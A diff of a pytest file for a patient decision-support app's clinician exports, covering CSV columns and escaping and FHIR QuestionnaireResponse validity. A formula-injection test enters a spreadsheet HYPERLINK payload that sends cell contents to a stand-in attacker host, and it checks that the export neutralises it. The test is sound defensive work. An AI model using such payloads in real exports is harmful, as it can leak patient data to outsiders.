@@ -14,11 +14,13 @@ import sqlalchemy as sa
 # Questionnaire or QuestionnaireResponse, so its models check our R4 JSON.
 from fhir.resources.R4B.questionnaireresponse import QuestionnaireResponse
 
-from app.clinician.exports import questionnaire, questionnaire_response, submissions_csv
+from app.clinician.exports import FIRST_COLUMNS, LAST_COLUMNS, questionnaire, questionnaire_response, submissions_csv
+from app.content.versions import versions
 from app.extensions import db
 from app.models import AnswerSet
-from export_helpers import BASE_URL, HEADERS, VALUE_OF_TYPE, answers_of, by_link_id, read_csv
-from journey_helpers import complete_all_sections, start, submit
+from export_helpers import BASE_URL, VALUE_OF_TYPE, answers_of, by_link_id, read_csv
+from journey_helpers import complete_all_sections, live, start, submit
+from support import check_page
 
 pytestmark = pytest.mark.both_databases  # storage: runs on SQLite and PostgreSQL
 
@@ -28,6 +30,12 @@ ABOUT_ANN = {
     "name": "Ann Example", "nhs_number": "943 476 5919", "companion": "yes",
     "interpreter": "yes", "language": "Welsh", "support_needs": "Large print, please",
 }
+
+
+def own_question_ids(client) -> list[str]:
+    """The ids the patient's own questions were given, as the top questions page offers them."""
+    page = check_page(client.get("/questions/most-important"))
+    return [box["value"] for box in page.select("input[name=top]") if box["value"].startswith("own-")]
 
 
 def send(client) -> None:
@@ -42,51 +50,63 @@ def answer_sets(app) -> list[AnswerSet]:
 def sent_answer_set(app, client, slug: str) -> AnswerSet:
     """A patient who answered everything, as complete_all_sections does, and sent it."""
     start(client, slug)
-    complete_all_sections(client, slug, app.extensions["catalogue"])
+    complete_all_sections(client, slug, app)
     send(client)
     return answer_sets(app)[-1]
 
 
+def export_text(app) -> str:
+    """The CSV as the export view makes it: each set with its own version and the one patients are on now."""
+    with app.app_context():
+        live_now = {v.slug: v for v in versions().live()}
+        rows = [(a, versions().of(a), live_now.get(a.procedure_slug)) for a in answer_sets(app)]
+        return submissions_csv(rows, live_now.values())
+
+
 def export_rows(app) -> list[dict[str, str]]:
-    return read_csv(submissions_csv(answer_sets(app), app.extensions["catalogue"]))
+    return read_csv(export_text(app))
 
 
 # CSV
 
 
-def test_csv_starts_with_the_documented_headers(app, client):
+def test_csv_headers_name_the_set_then_each_answer_then_what_needs_explaining(app, client):
     sent_answer_set(app, client, LIVER)
-    text = submissions_csv(answer_sets(app), app.extensions["catalogue"])
-    assert next(csv.reader(io.StringIO(text, newline=""))) == HEADERS
+    headers = next(csv.reader(io.StringIO(export_text(app), newline="")))
+    assert headers[:len(FIRST_COLUMNS)] == list(FIRST_COLUMNS)
+    assert headers[-len(LAST_COLUMNS):] == list(LAST_COLUMNS)
+    middle = headers[len(FIRST_COLUMNS):-len(LAST_COLUMNS)]
+    assert middle[:3] == ["Name", "NHS number", "Appointment date"] and middle[-1] == "SURE score"
 
 
 def test_csv_has_a_row_for_each_patient_with_what_a_clinician_looks_for(app):
-    catalogue = app.extensions["catalogue"]
     for slug in (BREAST, LIVER):
         sent_answer_set(app, app.test_client(), slug)
     stored = answer_sets(app)
     rows = export_rows(app)
     assert len(rows) == 2
 
-    for row, answer_set in zip(rows, stored):
-        procedure = catalogue.get(answer_set.procedure_slug)
-        questions = catalogue.questions_for(procedure)
+    for row, answer_set in zip(rows, stored, strict=True):
+        version = live(app, answer_set.procedure_slug)
+        procedure = version.procedure
+        questions = procedure.all_questions
         assert row["Reference"] == answer_set.reference
         assert row["Procedure"] == procedure.title
         assert row["Status"] == "Not reviewed" and row["Reviewed"] == ""
         assert row["Sent"] == answer_set.submitted_at.isoformat(timespec="seconds") + "Z"
-        assert row["Information version"] == procedure.version
+        assert (row["Information version"], row["Information updated since sent"]) == (version.version, "No")
         assert (row["Name"], row["NHS number"], row["Appointment date"]) == ("Ann Example", "943 476 5919", "")
-        assert (row["Interpreter"], row["Language"], row["Someone coming"]) == ("Yes", "Welsh", "Yes")
+        assert (row["Interpreter"], row["Language"], row["Someone coming with you"]) == ("Yes", "Welsh", "Yes")
         assert row["Other support"] == "Large print, please"
-        decision = (row["SURE score"], row["Leaning"], row["Who decides"])
+        decision = (row["SURE score"], row["Which way you are leaning"], row["How you want to decide"])
         assert decision == ("3", "Not sure yet", "Together with my clinician")
-        assert row["Most important questions"] == f"{questions[0].text} | Can my daughter come in with me?"
-        assert row["Questions to ask"] == f"{questions[0].text} (note: My note about this) | {questions[-1].text}"
-        assert row["Own questions"] == "Can my daughter come in with me?"
-        assert row["Views and concerns"] == "I am worried about pain."
-        assert row["Consent points to explain"] == procedure.consent_points[0].text
-        assert row["What matters"] == "; ".join(f"{s.text}: Very important" for s in procedure.what_matters)
+        assert row["The questions that matter most"] == f"{questions[0].text} | {questions[-1].text}"
+        assert row["Questions you want to ask"] == (
+            f"{questions[0].text} (note: My note about this) | {questions[-1].text}")
+        assert row["Your own questions"] == "Can my daughter come in with me?"
+        assert row["Your views and concerns"] == "I am worried about pain."
+        assert row["Consent points to explain"] == procedure.all_consent_points[0].text
+        assert row["What matters"] == " | ".join(f"{s.text}: Very important" for s in procedure.what_matters)
 
 
 def test_csv_shows_when_an_answer_set_was_reviewed(app, client):
@@ -101,21 +121,25 @@ def test_csv_shows_when_an_answer_set_was_reviewed(app, client):
 
 def test_csv_leaves_unanswered_cells_blank(app, client):
     start(client, LIVER)
+    complete_all_sections(client, LIVER, app)
+    submit(client, "/about-you", {}, status=302)  # every optional answer left out
+    submit(client, "/questions", {}, status=302)  # and no questions chosen
+    submit(client, "/questions/most-important", {}, status=302)
     send(client)
     [row] = export_rows(app)
-    for header in ("Name", "Interpreter", "Language", "Someone coming", "SURE score", "Leaning", "Who decides",
-                   "Most important questions", "Questions to ask", "What matters", "Consent points to explain"):
+    for header in ("Name", "Interpreter", "Language", "Someone coming with you", "Other support",
+                   "The questions that matter most", "Questions you want to ask", "Your own questions"):
         assert row[header] == "", header
 
 
 @pytest.mark.parametrize("slug", [BREAST, LIVER])
 def test_csv_cells_that_look_like_formulas_stay_text(app, client, slug):
-    procedure = app.extensions["catalogue"].get(slug)
+    procedure = live(app, slug).procedure
     start(client, slug)
-    complete_all_sections(client, slug, app.extensions["catalogue"])
+    complete_all_sections(client, slug, app)
     submit(client, "/about-you", {**ABOUT_ANN, "name": "-2", "support_needs": "+1"}, status=302)
     submit(client, "/questions", {"own-0-text": "@SUM(A1)"}, status=302)
-    submit(client, "/questions/most-important", {"top": ["own:0"]}, status=302)
+    submit(client, "/questions/most-important", {"top": own_question_ids(client)}, status=302)
     submit(client, "/what-matters", {
         **{f"rate_{s.id}": "quite" for s in procedure.what_matters},
         "views": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
@@ -124,29 +148,29 @@ def test_csv_cells_that_look_like_formulas_stay_text(app, client, slug):
     [row] = export_rows(app)
     assert row["Name"] == "'-2"
     assert row["Other support"] == "'+1"
-    assert row["Own questions"] == row["Most important questions"] == "'@SUM(A1)"
-    assert row["Views and concerns"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+    assert row["Your own questions"] == row["The questions that matter most"] == "'@SUM(A1)"
+    assert row["Your views and concerns"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
     assert row["NHS number"] == "943 476 5919"  # ordinary text is untouched
 
 
 @pytest.mark.parametrize("slug", [BREAST, LIVER])
 def test_csv_keeps_newlines_commas_quotes_and_emoji_in_patient_text(app, client, slug):
-    procedure = app.extensions["catalogue"].get(slug)
+    procedure = live(app, slug).procedure
     views = 'First, the pain.\r\nThen "recovery", and getting home 😟 👍🏽'
     own = 'Can I drive, or "should" I get a lift?'
     start(client, slug)
-    complete_all_sections(client, slug, app.extensions["catalogue"])
+    complete_all_sections(client, slug, app)
     submit(client, "/questions", {"own-0-text": own}, status=302)
-    submit(client, "/questions/most-important", {"top": ["own:0"]}, status=302)
+    submit(client, "/questions/most-important", {"top": own_question_ids(client)}, status=302)
     submit(client, "/what-matters", {**{f"rate_{s.id}": "not" for s in procedure.what_matters}, "views": views},
            status=302)
     send(client)
     sent_answer_set(app, app.test_client(), slug)  # a second row after it, so a broken quote would show
     rows = export_rows(app)
     assert len(rows) == 2
-    assert rows[0]["Views and concerns"] == views
-    assert rows[0]["Own questions"] == own
-    assert rows[1]["Views and concerns"] == "I am worried about pain."
+    assert rows[0]["Your views and concerns"] == views
+    assert rows[0]["Your own questions"] == own
+    assert rows[1]["Your views and concerns"] == "I am worried about pain."
 
 
 # FHIR
@@ -154,30 +178,28 @@ def test_csv_keeps_newlines_commas_quotes_and_emoji_in_patient_text(app, client,
 
 @pytest.mark.parametrize("slug", [BREAST, LIVER])
 def test_response_is_valid_fhir_and_cites_the_version_the_patient_saw(app, client, slug):
-    catalogue = app.extensions["catalogue"]
-    procedure = catalogue.get(slug)
     answer_set = sent_answer_set(app, client, slug)
-    resource = questionnaire_response(answer_set, procedure, catalogue, BASE_URL)
+    version = live(app, slug)
+    resource = questionnaire_response(answer_set, version, BASE_URL)
     parsed = QuestionnaireResponse.model_validate(resource)
     assert parsed.status == "completed"
-    assert parsed.questionnaire == f"{BASE_URL}/fhir/Questionnaire/{slug}|{answer_set.content_version}"
+    assert parsed.questionnaire == f"{BASE_URL}/fhir/Questionnaire/{slug}|{version.version}"
     assert (parsed.identifier.system, parsed.identifier.value) == (f"{BASE_URL}/fhir/reference", answer_set.reference)
     assert resource["authored"] == answer_set.submitted_at.isoformat(timespec="seconds") + "Z"
 
 
 @pytest.mark.parametrize("slug", [BREAST, LIVER])
 def test_every_answer_fits_the_question_it_answers(app, client, slug):
-    catalogue = app.extensions["catalogue"]
-    procedure = catalogue.get(slug)
+    version = live(app, slug)
     appointment = date.today() + timedelta(days=30)
     start(client, slug)
-    complete_all_sections(client, slug, catalogue)
+    complete_all_sections(client, slug, app)
     submit(client, "/about-you", {**ABOUT_ANN, "appointment_date[day]": str(appointment.day),
                                   "appointment_date[month]": str(appointment.month),
                                   "appointment_date[year]": str(appointment.year)}, status=302)
     send(client)
-    response = questionnaire_response(answer_sets(app)[0], procedure, catalogue, BASE_URL)
-    asked = by_link_id(questionnaire(procedure, catalogue, BASE_URL)["item"])
+    response = questionnaire_response(answer_sets(app)[0], version, BASE_URL)
+    asked = by_link_id(questionnaire(version, BASE_URL, live=True)["item"])
 
     for link_id, item in by_link_id(response["item"]).items():
         assert link_id in asked, link_id
@@ -192,52 +214,46 @@ def test_every_answer_fits_the_question_it_answers(app, client, slug):
             assert list(answer) == [VALUE_OF_TYPE[question["type"]]], link_id
             if question["type"] == "choice":
                 assert answer["valueCoding"] in [o["valueCoding"] for o in question["answerOption"]], link_id
-    assert answers_of(response)["about_you.appointment_date"] == [{"valueDate": appointment.isoformat()}]
+    assert answers_of(response)["appointment_date"] == [{"valueDate": appointment.isoformat()}]
 
 
 @pytest.mark.parametrize("slug", [BREAST, LIVER])
 def test_response_holds_what_the_patient_said(app, client, slug):
-    catalogue = app.extensions["catalogue"]
-    procedure = catalogue.get(slug)
-    questions = catalogue.questions_for(procedure)
-    response = questionnaire_response(sent_answer_set(app, client, slug), procedure, catalogue, BASE_URL)
+    version = live(app, slug)
+    procedure = version.procedure
+    questions = procedure.all_questions
+    response = questionnaire_response(sent_answer_set(app, client, slug), version, BASE_URL)
     answers = answers_of(response)
-    assert answers["about_you.name"] == [{"valueString": "Ann Example"}]
-    assert answers["about_you.interpreter"][0]["valueCoding"]["display"] == "Yes"
-    assert answers["about_you.language"] == [{"valueString": "Welsh"}]
-    assert "about_you.appointment_date" not in answers  # left blank
-    assert answers["about_procedure.read"] == answers["benefits_risks.read"] == [{"valueBoolean": True}]
-    assert answers[f"questions.ask.{questions[0].id}"] == [{"valueBoolean": True}]
-    assert answers[f"questions.ask.{questions[1].id}"] == [{"valueBoolean": False}]
-    assert answers[f"questions.note.{questions[0].id}"] == [{"valueString": "My note about this"}]
-    assert f"questions.note.{questions[-1].id}" not in answers  # chosen without a note
-    assert answers["questions.top"] == [{"valueString": questions[0].text},
-                                        {"valueString": "Can my daughter come in with me?"}]
-    assert answers[f"consent.{procedure.consent_points[0].id}"][0]["valueCoding"]["code"] == "explain"
-    assert answers["where_you_are.sure.sure"][0]["valueCoding"]["code"] == "no"
-    assert answers["where_you_are.sure_score"] == [{"valueInteger": 3}]
+    assert answers["name"] == [{"valueString": "Ann Example"}]
+    assert answers["interpreter"][0]["valueCoding"]["display"] == "Yes"
+    assert answers["language"] == [{"valueString": "Welsh"}]
+    assert "appointment_date" not in answers  # left blank
+    assert answers["read_procedure"] == answers["read_benefits_risks"] == [{"valueBoolean": True}]
+    assert answers[f"ask_{questions[0].id}"] == [{"valueBoolean": True}]
+    assert answers[f"ask_{questions[1].id}"] == [{"valueBoolean": False}]
+    assert answers[f"note_{questions[0].id}"] == [{"valueString": "My note about this"}]
+    assert f"note_{questions[-1].id}" not in answers  # chosen without a note
+    assert answers["top"] == [{"valueString": questions[0].text}, {"valueString": questions[-1].text}]
+    assert answers["own"] == [{"valueString": "Can my daughter come in with me?"}]
+    assert answers[f"point_{procedure.all_consent_points[0].id}"][0]["valueCoding"]["code"] == "explain"
+    assert answers["sure_sure"][0]["valueCoding"]["code"] == "no"
+    assert answers["sure_score"] == [{"valueInteger": 3}]
 
 
-def test_response_leaves_out_sections_the_patient_skipped(app, client):
-    catalogue = app.extensions["catalogue"]
-    procedure = catalogue.get(LIVER)
+def test_response_leaves_out_a_section_the_patient_left_empty(app, client):
     start(client, LIVER)
+    complete_all_sections(client, LIVER, app)
     submit(client, "/about-you", {}, status=302)  # Continue with every box left empty
-    submit(client, "/where-you-are", {
-        "leaning": "have", "role": "myself", "sure_sure": "yes", "sure_understand": "yes",
-        "sure_risk_benefit": "yes", "sure_encouragement": "yes",
-    }, status=302)
     send(client)
-    response = questionnaire_response(answer_sets(app)[0], procedure, catalogue, BASE_URL)
+    response = questionnaire_response(answer_sets(app)[0], live(app, LIVER), BASE_URL)
     QuestionnaireResponse.model_validate(response)
-    assert [item["linkId"] for item in response["item"]] == ["where_you_are"]
-    assert answers_of(response)["where_you_are.sure_score"] == [{"valueInteger": 4}]
+    assert "about_you" not in [item["linkId"] for item in response["item"]]
+    assert answers_of(response)["sure_score"] == [{"valueInteger": 3}]
 
 
 def test_unsent_answers_have_no_response(app, client):
-    catalogue = app.extensions["catalogue"]
     start(client, BREAST)
-    complete_all_sections(client, BREAST, catalogue)
+    complete_all_sections(client, BREAST, app)
     answer_set = answer_sets(app)[0]
     with pytest.raises(ValueError, match="not been sent"):
-        questionnaire_response(answer_set, catalogue.get(BREAST), catalogue, BASE_URL)
+        questionnaire_response(answer_set, live(app, BREAST), BASE_URL)
